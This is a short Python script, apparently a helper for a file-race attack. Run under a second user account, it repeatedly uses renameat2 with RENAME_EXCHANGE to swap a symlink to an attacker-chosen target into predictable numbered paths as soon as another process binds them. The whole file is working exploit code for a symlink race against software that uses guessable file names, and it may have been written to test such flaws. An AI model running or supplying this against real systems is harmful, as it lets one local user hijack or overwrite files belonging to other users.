# SPDX-License-Identifier: MIT
"""Run as another user: PATH.N is exchanged for a link to TARGET in the instant it is bound, then PATH.N+1 and so on."""

import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main(path: str, target: str, first: int, seconds: int) -> None:
    exchange = ctypes.CDLL(None).renameat2
    link = f"{path}-link".encode()
    number = first
    until = time.monotonic() + seconds
    os.symlink(target, link)
    print("ready", flush=True)
    while time.monotonic() < until:
        # As many of the next names as fit: those that others took meanwhile are passed by.
        for ahead in range(number, number + 3):
            name = f"{path}.{ahead}".encode()
            if exchange(AT_FDCWD, link, AT_FDCWD, name, RENAME_EXCHANGE) == 0:
                print("swapped", ahead, flush=True)
                os.unlink(link)
                os.symlink(target, link)
                number = ahead + 1
                break


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
